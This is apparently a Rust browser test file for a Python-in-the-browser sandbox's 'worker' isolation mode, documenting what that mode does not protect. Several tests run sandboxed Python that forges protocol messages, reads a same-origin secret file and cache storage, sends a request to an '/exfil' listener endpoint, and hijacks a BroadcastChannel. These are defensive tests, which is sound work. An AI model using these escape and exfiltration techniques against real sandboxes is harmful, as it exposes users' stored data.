//! The opt-in "worker" isolation: a worker at the page's origin. It runs the
//! same runtime; these tests also pin down what it does NOT protect.
use wasm_bindgen::{JsCast, JsValue};
use wasm_bindgen_test::*;
mod common;
use common::*;

wasm_bindgen_test_configure!(run_in_browser);

async fn worker_sandbox() -> pycage::Sandbox {
    sandbox(&[("isolation", "worker".into()), ("standby", false.into())]).await
}

#[wasm_bindgen_test]
async fn runs_and_times_out_like_the_iframe() {
    let sb = worker_sandbox().await;
    assert_eq!(sb.isolation(), "worker");
    run(&sb, "kept = 1").await;
    // With cross-origin isolation the interrupt buffer stops the loop and keeps state.
    let isolated = cross_origin_isolated();
    assert_eq!(sb.interruptible(), isolated);
    let ex = run_with(&sb, "while True: pass", obj(&[("timeoutMs", 1000.into())])).await;
    assert_eq!(status(&ex), "timeout");
    assert_eq!(
        get(&ex, "interpreterReset"),
        JsValue::from(!isolated),
        "{}",
        json(&ex)
    );
    assert_healthy(&sb).await;
    let ex = run(&sb, "kept").await;
    assert_eq!(status(&ex) == "ok", isolated);
    sb.dispose();
}

#[wasm_bindgen_test]
async fn forged_messages_on_the_worker_global_are_counted() {
    let sb = worker_sandbox().await;
    let ex = run(&sb, "import js\nfrom pyodide.ffi import to_js\njs.postMessage(to_js({'type': 'done', 'id': 1, 'status': 'ok'}))\nimport time\ntime.sleep(0.1)\n'real'").await;
    assert_eq!(text(&ex, "result.text/plain"), "'real'");
    assert!(
        as_array(&get(&ex, "protocolViolations")).length() >= 1,
        "{}",
        json(&ex)
    );
    sb.dispose();
}

#[wasm_bindgen_test]
async fn documented_difference_same_origin_data_is_reachable() {
    // In "worker" mode the worker runs at the page's origin: the native fetch
    // reads same-origin files. This is why "iframe" is the default.
    let sb = worker_sandbox().await;
    let code = "import js\nf = js.WorkerGlobalScope.prototype.fetch\n\
        r = await f.call(js.self, js.location.origin + '/tests/fixtures/secret.json')\nprint(await r.text())";
    let ex = run(&sb, code).await;
    assert!(
        text(&ex, "stdout").contains("PYCAGE-SECRET-FILE-7f3a"),
        "{}",
        json(&ex)
    );
    sb.dispose();
}

#[wasm_bindgen_test]
async fn documented_difference_the_network_and_origin_storage_are_reachable() {
    // What the iframe's opaque origin and CSP stop (tests/attacks.rs a03,
    // a07, a24) and a worker at the page's origin does not.
    let cache: js_sys::Promise = js_sys::eval(
        "(async () => { await (await caches.open('app')).put('/secret-cache', new Response('CACHE-SECRET-e8f0'));\
         window.__bc = []; window.__bcChannel = new BroadcastChannel('app');\
         window.__bcChannel.onmessage = (e) => window.__bc.push(e.data); })()",
    )
    .unwrap()
    .unchecked_into();
    wasm_bindgen_futures::JsFuture::from(cache).await.unwrap();
    let _ = wasm_bindgen_futures::JsFuture::from(
        web_sys::window()
            .unwrap()
            .fetch_with_str(&format!("{}/__clear", listener())),
    )
    .await;
    let sb = worker_sandbox().await;
    let code = format!(
        "import js\nfrom pyodide.ffi import to_js\nf = js.WorkerGlobalScope.prototype.fetch\n\
         await f.call(js.self, '{}/exfil?d=worker', to_js({{'mode': 'no-cors'}}))\n\
         c = await js.caches.open('app')\nprint(await (await c.match(js.location.origin + '/secret-cache')).text())\n\
         js.BroadcastChannel.new('app').postMessage('HIJACK')",
        listener()
    );
    let ex = run(&sb, &code).await;
    assert_eq!(text(&ex, "stdout"), "CACHE-SECRET-e8f0\n", "{}", json(&ex));
    sleep(300).await;
    assert!(
        listener_log()
            .await
            .iter()
            .any(|r| r.contains("/exfil?d=worker")),
        "the request left the browser"
    );
    assert_eq!(json(&js_sys::eval("window.__bc").unwrap()), "[\"HIJACK\"]");
    sb.dispose();
}
